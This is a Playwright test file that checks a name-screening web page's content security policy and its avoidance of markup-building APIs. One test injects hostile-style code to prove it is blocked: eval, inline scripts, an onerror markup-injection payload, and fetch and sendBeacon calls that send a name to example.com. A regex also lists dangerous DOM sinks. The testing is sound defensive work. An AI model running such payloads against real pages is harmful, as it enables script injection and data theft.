// The content security policy: it holds, the page never runs into it, and it stops what it should.

import { readFileSync } from "node:fs";
import { posix } from "node:path";
import { importsOf } from "../../www/app/seal/linking.js";
import { expect, replace, test } from "./screener-page.js";

/** Has the page itself run `code`, at the end of its first module: what Playwright evaluates is not under the policy. @param {import("@playwright/test").Page} page @param {string} code */
const runInPage = (page, code) => replace(page, "app/start.js", (body) => `${body}\n${code}`);

/** Records violations from the very start. @param {import("@playwright/test").Page} page */
async function recordViolations(page) {
  await page.addInitScript(() => {
    Object.assign(window, { violations: [] });
    addEventListener("securitypolicyviolation", (event) => Reflect.get(window, "violations").push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
}

const violations = (/** @type {import("@playwright/test").Page} */ page) => page.evaluate(() => Reflect.get(window, "violations"));

test("header and page state the policy, and it allows nothing but the page's own files", async ({ page, screener }) => {
  const response = await page.goto("/");
  const header = response?.headers()["content-security-policy"] ?? "";
  const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")) ?? "";
  for (const policy of [header, meta]) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types name-screener");
    // Workers from memory have the policy of who made them, and no address.
    expect(policy.replace("worker-src 'self' blob:", "")).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|data:|blob:|\*/);
  }
  await screener.loaded();
});

test("the page never violates it", async ({ page, screener }) => {
  await recordViolations(page);
  await screener.open();
  await screener.screen("Kim Yong Chol");
  await page.keyboard.press("ArrowDown");
  await page.getByRole("button", { name: "Help" }).click();
  expect(await violations(page)).toEqual([]);
});

test("it stops eval, inline code and requests to elsewhere", async ({ page, screener }) => {
  await recordViolations(page);
  await runInPage(page, `
    window.ran = [];
    const attempt = (act) => { try { act(); } catch {} };
    attempt(() => eval("window.ran.push('eval')"));
    attempt(() => new Function("window.ran.push('function')")());
    const inline = document.createElement("script");
    attempt(() => (inline.textContent = "window.ran.push('inline')"));
    inline.append("window.ran.push('text')");
    document.head.append(inline);
    attempt(() => document.body.setAttribute("onclick", "window.ran.push('handler')"));
    attempt(() => document.body.click());
    attempt(() => (document.createElement("p").innerHTML = "<img src=x onerror=window.ran.push('markup')>"));
    attempt(() => new Worker("data:text/javascript,"));
    import("https://example.com/x.js").then(() => window.ran.push("import"), () => {});
    window.fetched = fetch("https://example.com/?name=x").then(() => "fetched", () => "blocked");
    new Image().src = "https://example.com/x.png";
    navigator.sendBeacon("https://example.com/", "name");
  `);
  await screener.open();
  expect(await page.evaluate(() => Reflect.get(window, "fetched"))).toBe("blocked");
  expect(await page.evaluate(() => Reflect.get(window, "ran"))).toEqual([]);
  const stopped = await violations(page);
  for (const directive of ["connect-src", "img-src", "script-src-elem", "require-trusted-types-for"]) {
    expect(stopped.some((/** @type {string} */ one) => one.startsWith(directive)), directive).toBe(true);
  }
});

/** What a module imports by `import` or `export` from, and what that does, and so on. @param {string} name @param {Set<string>} [found] */
function closure(name, found = new Set()) {
  if (found.has(name)) return found;
  found.add(name);
  for (const path of importsOf(readFileSync(`www/${name}`, "utf8"))) closure(posix.join(posix.dirname(name), path), found);
  return found;
}

test("what the page preloads is what its first view is made of", async ({ page }) => {
  await page.goto("/");
  const named = await page.locator("link[rel=modulepreload], script").evaluateAll((links) =>
    links.map((link) => String(link.getAttribute("href") ?? link.getAttribute("src"))));
  expect(named.toSorted()).toEqual([...new Set(["app/start.js", ...closure("app/main.js")])].toSorted());
});

test("nothing in the page's sources makes markup of text", async ({ page, screener }) => {
  /** @type {Promise<[string, string]>[]} */
  const scripts = [];
  page.on("response", (response) => {
    const { pathname } = new URL(response.url());
    // A script that is there already comes again without a body, for another worker.
    const isNew = response.status() === 200;
    if (isNew && /\.js$/.test(pathname) && !pathname.startsWith("/pkg/")) scripts.push(response.text().then((text) => [pathname, text]));
  });
  await screener.open();
  const sources = await Promise.all(scripts);
  expect(sources.length).toBeGreaterThan(20);
  // It reads documents that are dropped, into a document that is not shown.
  const reader = "/app/document/inert.js";
  expect(sources.map(([name]) => name)).toContain(reader);
  for (const [name, text] of sources.filter(([name]) => name !== reader)) {
    expect(text, name).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|setHTML/);
  }
});
